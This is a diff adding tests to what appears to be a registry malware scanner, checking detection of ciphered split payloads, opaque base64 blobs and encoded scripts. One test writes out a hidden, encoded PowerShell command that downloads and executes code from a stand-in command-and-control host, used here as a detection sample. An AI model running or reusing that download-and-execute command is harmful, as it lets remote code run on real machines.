@@ -118,3 +118,39 @@ def test_shellcode_and_scripts_in_class_names_and_small_values(tmp_path: Path) -
     assert subject(report, "Software\\S").severity.points >= HIGH
     assert subject(report, "Software\\T").score >= 40
     assert subject(report, "Software\\U").score >= 40
+
+
+def test_pieces_in_a_cipher_of_their_own_are_a_lead(tmp_path: Path) -> None:
+    text = (
+        pe(random.Random(9)).hex().translate(str.maketrans("0123456789abcdef", "qwertyuiopasdfgh"))
+    )
+    parts = [text[at : at + 500] for at in range(0, len(text), 500)]
+    plants = [Plant("Software\\Q\\bob", str(n), part) for n, part in enumerate(parts)]
+    found = subject(judged(tmp_path, plants), "Software\\Q\\bob")
+    assert found.severity is Severity.MEDIUM
+    assert {f.indicator for f in found.findings} == {"registry-numbered-parts"}
+
+
+def test_random_bytes_in_base64_are_told_and_lists_are_not(tmp_path: Path) -> None:
+    import base64
+
+    listed = b"".join(n.to_bytes(2, "little") + b"Folder\0\0" for n in range(300))
+    plants = [
+        Plant("Software\\Ra", "v", base64.b64encode(random.Random(4).randbytes(2000)).decode()),
+        Plant("Software\\Li", "v", base64.b64encode(listed[:2000]).decode()),
+    ]
+    report = judged(tmp_path, plants)
+    assert {f.indicator for f in subject(report, "Software\\Ra").findings} >= {"registry-opaque"}
+    of_list = [f.indicator for s in report.subjects if "\\Li " in s.title for f in s.findings]
+    assert "registry-opaque" not in of_list
+
+
+def test_a_decoded_script_is_shown(tmp_path: Path) -> None:
+    import base64
+
+    script = "iex (New-Object Net.WebClient).DownloadString('http://c2.example.com/a')"
+    text = base64.b64encode(script.encode("utf-16-le")).decode()
+    report = judged(tmp_path, [Plant("Software\\D", "v", f"powershell -nop -w hidden -enc {text}")])
+    found = subject(report, "Software\\D")
+    assert found.score >= 40
+    assert script in str(dict(found.facts)["decoded"])
